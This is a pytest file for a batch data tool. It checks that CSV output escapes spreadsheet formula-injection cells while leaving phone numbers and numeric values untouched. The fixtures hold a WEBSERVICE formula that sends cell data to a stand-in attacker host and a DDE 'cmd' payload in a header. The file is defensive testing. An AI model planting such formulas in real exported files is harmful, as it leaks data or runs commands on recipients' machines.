"""CSV formula injection: the output, read back with Python's csv module, has every dangerous cell
escaped with a leading ``'`` and every phone number and plain number untouched; ``--csv-formulas
keep`` writes them as they are."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path
from typing import Any, ClassVar

import pytest
from waystation import Outcome, PluginHost, Station, StepContext
from waystation.batch import BatchConfig, BatchRunner
from waystation.csvsafe import FORMULA_STARTS

LEADS = Path(__file__).parent / "leads" / "formula-injection.csv"
PHONES = {"+14155550100", "+442071838750", "415-555-0100", "+1 415 555 0100", "4155550100"}
NUMBERS = {"-10", "+3.25", "1e6", "-3", "1", "2", "3", "4", "5", "0.001"}


class Echo(Station):
    """Adds a station-made value that is a formula, a phone and a negative number."""

    name = "Echo"
    provides: ClassVar[dict[str, Any]] = {"vendor_note": str, "vendor_phone": str, "vendor_delta": str}
    cost = 0.001

    async def process(self, ctx: StepContext) -> Outcome:
        return Outcome({"vendor_note": "=WEBSERVICE(\"http://evil.example/?\"&A1)", "vendor_phone": "+14155550100",
                        "vendor_delta": "-3"}, cost=0.001)


def host() -> PluginHost:
    h = PluginHost()
    h.add_stations([Echo])
    return h


async def run(tmp_path: Path, escape: bool) -> list[dict[str, str]]:
    route = tmp_path / "r.yaml"
    route.write_text("name: echo\nsteps: [{station: Echo}]\n")
    out = tmp_path / "out.csv"
    cfg = BatchConfig(route=route, input=LEADS, output=out, checkpoint="memory://", escape_formulas=escape)
    result = await BatchRunner(cfg, host()).run()
    assert result.exit_code == 0
    with out.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def source_rows() -> list[dict[str, str]]:
    with LEADS.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


async def test_every_dangerous_cell_is_escaped_and_every_phone_untouched(tmp_path: Path) -> None:
    rows = await run(tmp_path, escape=True)
    src = source_rows()
    assert len(rows) == len(src) == 5
    escaped = 0
    for got, sent in zip(rows, src, strict=True):
        assert got["vendor_note"] == "'=WEBSERVICE(\"http://evil.example/?\"&A1)"
        assert got["vendor_phone"] == "+14155550100"
        assert got["vendor_delta"] == "-3"
        for col, value in sent.items():
            if value in PHONES or value in NUMBERS:
                assert got[col] == value, (col, value)
            elif value.startswith(FORMULA_STARTS):
                assert got[col] == "'" + value, (col, value)
                escaped += 1
            else:
                assert got[col] == value
        for col, cell in got.items():  # nothing a spreadsheet would run is left anywhere
            assert not cell.startswith(FORMULA_STARTS) or cell in PHONES or cell in NUMBERS, (col, cell)
    assert escaped == 9
    assert rows[2]["last_name"] == "'\t=1+2" and rows[2]["note"] == "'\r=1+1"


async def test_keep_writes_them_as_they_are(tmp_path: Path) -> None:
    rows = await run(tmp_path, escape=False)
    for got, sent in zip(rows, source_rows(), strict=True):
        assert {k: got[k] for k in sent} == sent
        assert got["vendor_note"].startswith("=WEBSERVICE")


def test_the_run_command_has_the_setting(tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "waystation", "run", "--help"], capture_output=True, text=True,
                          check=True)
    assert "--csv-formulas [escape|keep]" in done.stdout


@pytest.mark.parametrize("header", ["=cmd|' /C calc'!A0", "@x"])
async def test_a_formula_in_the_header_is_escaped_too(tmp_path: Path, header: str) -> None:
    inp = tmp_path / "in.csv"
    with inp.open("w", newline="") as f:
        csv.writer(f).writerows([["id", header], ["1", "x"]])
    route = tmp_path / "r.yaml"
    route.write_text("name: echo\nsteps: [{station: Echo}]\n")
    out = tmp_path / "out.csv"
    await BatchRunner(BatchConfig(route=route, input=inp, output=out, checkpoint="memory://"), host()).run()
    with out.open(newline="") as f:
        assert next(csv.reader(f))[:2] == ["id", "'" + header]
